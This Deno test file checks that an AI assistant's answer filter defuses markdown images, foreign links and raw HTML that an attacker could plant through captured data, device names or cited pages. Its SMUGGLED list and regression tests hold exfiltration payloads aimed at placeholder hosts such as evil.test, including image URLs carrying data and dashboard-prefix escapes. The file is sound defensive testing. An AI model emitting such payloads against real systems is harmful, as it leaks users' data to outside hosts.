// The answer's link policy tried as an attacker who plants text in a capture, names a device or
// writes a cited web page: every markdown form that makes an image (fetched with no click) or a
// link to another host must come out inert, not just the forms the filter's patterns spell.
// The provider and PostgREST are stubbed at fetch level (no network), as in handler_test.ts.
import { deepStrictEqual as assertEquals, ok } from 'node:assert/strict';
// deno-lint-ignore no-import-prefix -- pinned npm: specifiers are the project's import rule
import OpenAI from 'npm:openai@7.55.0';
import type { Caller } from '../_shared/caller.ts';
import { filterLinks } from './answer-filter.ts';
import type { AskConfig } from './config.ts';
import { dashboardLink } from './dashboard-links.ts';
import { handleAsk } from './handler.ts';

const DASHBOARD = 'http://dash.test';
const allowed = (url: string) => dashboardLink(url, DASHBOARD);

/**
 * What a CommonMark renderer could still turn into an image, a link or HTML: a `]` that is not
 * backslash-escaped directly before `(` or `:` (inline links and images, reference definitions)
 * and a `<` opening a tag, a comment or an autolink.
 */
function liveSyntax(markdown: string): string[] {
  const found: string[] = [];
  for (const match of markdown.matchAll(/(\\*)\]([(:])/g)) {
    if ((match[1] ?? '').length % 2 === 0) found.push(match[0]);
  }
  for (const match of markdown.matchAll(/(\\*)<[a-zA-Z/!?]/g)) {
    if ((match[1] ?? '').length % 2 === 0) found.push(match[0]);
  }
  return found;
}

const SMUGGLED = [
  // A title in single quotes or parentheses (CommonMark accepts both).
  "![a](//evil.test/p.png?d=1 'x')",
  '![a](https://evil.test/p.png (t))',
  // An angle-bracket destination with a space in it.
  '![a](<//evil.test/p.png?d=1 x>)',
  // Reference-style images and links: the definition holds the URL.
  '![a][r]\n\n[r]: //evil.test/p.png?d=1',
  '[click][r]\n\n[r]: http:evil.test/x?d=1',
  // Nested brackets, and a label over two lines.
  '[a [b] c](//evil.test/x)',
  '[a\nb](//evil.test/x)',
  // Raw HTML over two lines, and one not closed.
  '<img\nsrc="//evil.test/p.png">',
  '<img src=//evil.test/p.png',
];

Deno.test('no image, foreign link or raw HTML survives in any markdown spelling', () => {
  for (const attack of SMUGGLED) {
    const out = filterLinks(attack, allowed);
    assertEquals(
      liveSyntax(out),
      [],
      `${JSON.stringify(attack)} came out as ${JSON.stringify(out)}`,
    );
  }
});

Deno.test('an escaped backslash before a bracket does not shield it', () => {
  for (const attack of ['[a\\\\](//evil.test/x)', "![a\\\\](//evil.test/p.png 'x')"]) {
    assertEquals(liveSyntax(filterLinks(attack, allowed)), [], attack);
  }
});

Deno.test('GFM autolinks after an underscore or an asterisk become inline code', () => {
  assertEquals(
    filterLinks('_https://evil.test/?d=1_ and *www.evil.test/x*', allowed),
    '_`https://evil.test/?d=1_` and *`www.evil.test/x*`',
  );
});

Deno.test('dashboard links, plain brackets and text are left as they were', () => {
  const text = `See [Request 7](${DASHBOARD}/requests/7), the list [1, 2] and a [note].`;
  assertEquals(filterLinks(text, allowed), text);
});

Deno.test('fenced code keeps its look, and only a fence at the start of a line counts as one', () => {
  const code = '```python\nfor item in items[1:]:\n    if i<n: pass\n```';
  assertEquals(
    filterLinks(`Try:\n${code}\nthen [x](//evil.test/a)`, allowed),
    `Try:\n${code}\nthen x`,
  );
  // A fence indented under a list item ends with the item: what follows is live markdown.
  const listed = "- step\n  ```\n  code\n- ![a](//evil.test/p.png 'x')";
  assertEquals(liveSyntax(filterLinks(listed, allowed)), [], listed);
  // CommonMark ends a line at a carriage return too, which would close a fence unseen.
  const returned = "```\ncode\r```\r![a](//evil.test/p.png 'x')";
  assertEquals(liveSyntax(filterLinks(returned, allowed)), [], returned);
  // A backtick fence whose info string holds a backtick is no fence at all.
  const fake = "```a`b\n![a](//evil.test/p.png 'x')";
  assertEquals(liveSyntax(filterLinks(fake, allowed)), [], fake);
});

// The footer is built after the filter, from a device's name and a cited page's title and URL.

const TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1In0.c2lnbmF0dXJl';
const CALLER: Caller = {
  user_id: 'a0000000-0000-4000-8000-000000000002',
  email: 'admin@demo.local',
  roles: [{ slug: 'admin', name: 'Admin', is_admin: true }],
  capabilities: ['devices:view'],
  is_admin: true,
  token: { jti: null, client_id: null, label: null },
};
const CONFIG: AskConfig = {
  supabaseUrl: 'http://api.test',
  openaiApiKey: 'k',
  openaiBaseUrl: 'http://model.test/v1',
  defaultModel: 'm-default',
  maxSteps: 3,
  timeLimitMs: 5_000,
  pingMs: 1_000,
  ratePerMinute: 10,
  modelRetries: 0,
  webSearch: true,
  dashboardUrl: DASHBOARD,
  redactionKey: new Uint8Array(32),
};

function sse(events: Array<Record<string, unknown>>): Response {
  const text = events
    .map((event, index) =>
      `event: ${event.type}\ndata: ${JSON.stringify({ ...event, sequence_number: index })}\n\n`
    )
    .join('');
  return new Response(text, { headers: { 'content-type': 'text/event-stream' } });
}

const completed = (output: unknown[]) => ({
  type: 'response.completed',
  response: { id: 'r', object: 'response', status: 'completed', output, model: 'm' },
});

/** One question whose first step lists devices and whose answer cites the given sources. */
async function answerWith(
  devices: Array<{ uuid: string; name: string }>,
  citations: Array<{ url: string; title: string }>,
  modelBodies: Array<Record<string, unknown>> = [],
  firstStep: Array<Record<string, unknown>> = [],
  text = 'Here they are.',
): Promise<string> {
  const call = {
    type: 'function_call',
    id: 'fc',
    call_id: 'c1',
    name: 'list_devices',
    arguments: '{}',
    status: 'completed',
  };
  const message = {
    type: 'message',
    id: 'm1',
    role: 'assistant',
    status: 'completed',
    content: [{
      type: 'output_text',
      text,
      annotations: citations.map((c) => ({
        type: 'url_citation',
        ...c,
        start_index: 0,
        end_index: 4,
      })),
    }],
  };
  let step = 0;
  const fetch = ((input: RequestInfo | URL) => {
    const path = new URL(input instanceof Request ? input.url : String(input)).pathname;
    if (path === '/rest/v1/rpc/whoami') return Promise.resolve(Response.json(CALLER));
    if (path === '/rest/v1/rpc/assistant_take_turn') return Promise.resolve(Response.json(1));
    if (path === '/rest/v1/devices') return Promise.resolve(Response.json(devices));
    return Promise.resolve(Response.json([]));
  }) as typeof globalThis.fetch;
  const modelFetch = ((_input: RequestInfo | URL, init?: RequestInit) => {
    modelBodies.push(JSON.parse(String(init?.body)) as Record<string, unknown>);
    step += 1;
    const first = [...firstStep, call];
    return Promise.resolve(
      step === 1
        ? sse([
          ...first.map((item, index) => ({
            type: 'response.output_item.done',
            output_index: index,
            item,
          })),
          completed(first),
        ])
        : sse([
          {
            type: 'response.output_text.delta',
            item_id: 'm1',
            output_index: 0,
            content_index: 0,
            delta: text,
            logprobs: [],
          },
          { type: 'response.output_item.done', output_index: 0, item: message },
          completed([message]),
        ]),
    );
  }) as typeof globalThis.fetch;
  const response = await handleAsk(
    new Request('http://functions.test/ask', {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ question: 'which devices do I have?' }),
    }),
    {
      config: CONFIG,
      fetch,
      createModel: (c, apiKey) =>
        new OpenAI({ apiKey, baseURL: c.openaiBaseUrl, maxRetries: 0, fetch: modelFetch }),
    },
  );
  assertEquals(response.status, 200);
  return ((await response.json()) as { answer: string }).answer;
}

Deno.test("a device's name cannot put an image or a link into the footer", async () => {
  const uuid = 'b0000000-0000-4000-8000-000000000001';
  const answer = await answerWith(
    [{ uuid, name: 'x](//evil.test/a) ![i](//evil.test/p.png?d=1) <img src=//evil.test/q> [y' }],
    [],
  );
  const footer = answer.slice(answer.indexOf('**Data used**'));
  ok(footer.includes(`](${DASHBOARD}/devices/${uuid})`), footer);
  assertEquals(liveSyntax(footer.replace(`](${DASHBOARD}/devices/${uuid})`, '')), [], footer);
});

Deno.test('a link that starts with the dashboard URL but leaves it stays no link', async () => {
  // Regression: a prefix comparison kept `{dashboard_url}//evil.example/…`, which the dashboard
  // rendered as a protocol-relative href that a ctrl-click followed off-site with the data.
  const uuid = 'b0000000-0000-4000-8000-000000000001';
  const escapes = [
    `${DASHBOARD}//evil.example/?d=secret`,
    `${DASHBOARD}/\\evil.example/?d=secret`,
    `${DASHBOARD}/..//evil.example/?d=secret`,
    `${DASHBOARD}@evil.example/devices/${uuid}`,
  ];
  const text = escapes.map((url, index) => `[row ${index}](${url}) or ${url}`).join('\n') +
    `\n[Pixel](${DASHBOARD}/devices/${uuid}?d=secret)\n`;
  const answer = await answerWith([], [], [], [], text);
  for (const url of escapes) {
    ok(!answer.includes(`](${url})`), answer);
    ok(answer.includes(`\`${url}\``), answer);
  }
  ok(!/\]\([^)]*evil\.example/.test(answer), answer);
  ok(answer.includes(`[Pixel](${DASHBOARD}/devices/${uuid})`), answer);
});

Deno.test("a cited page's title and URL cannot break out of the sources list", async () => {
  const answer = await answerWith([], [
    { url: 'https://docs.test/pac', title: 'PAC](//evil.test/a) ![i](//evil.test/p.png) <b' },
    { url: 'javascript:alert(1)', title: 'script' },
    { url: 'https://docs.test/a) ![i](//evil.test/p.png', title: 'broken' },
    { url: 'https://en.wiki.test/wiki/PAC_(file)', title: 'Wiki' },
  ]);
  const sources = answer.slice(answer.indexOf('**Sources**'));
  ok(sources.includes('](https://docs.test/pac)'), sources);
  ok(sources.includes('- [Wiki](https://en.wiki.test/wiki/PAC_(file))'), sources);
  ok(!sources.includes('javascript:'), sources);
  ok(!sources.includes('broken'), sources);
  const rest = sources
    .replace('](https://docs.test/pac)', '')
    .replace('](https://en.wiki.test/wiki/PAC_(file))', '');
  assertEquals(liveSyntax(rest), [], sources);
});

Deno.test('web search is not offered once captured data is in the conversation', async () => {
  const search = {
    type: 'web_search_call',
    id: 'ws1',
    status: 'completed',
    action: { type: 'search' },
  };
  const bodies: Array<Record<string, unknown>> = [];
  await answerWith([{ uuid: 'b0000000-0000-4000-8000-000000000001', name: 'Pixel' }], [], bodies, [
    search,
  ]);
  const toolTypes = (body: Record<string, unknown>) =>
    (body.tools as Array<{ type: string }>).map((tool) => tool.type);
  assertEquals(bodies.length, 2);
  ok(toolTypes(bodies[0] ?? {}).includes('web_search'), 'offered before any tool result');
  ok(!toolTypes(bodies[1] ?? {}).includes('web_search'), 'not offered after one');
  const replayed = (bodies[1]?.input as Array<{ type?: string }>).map((item) => item.type);
  ok(replayed.includes('function_call_output'), JSON.stringify(replayed));
  ok(!replayed.includes('web_search_call'), JSON.stringify(replayed));
});
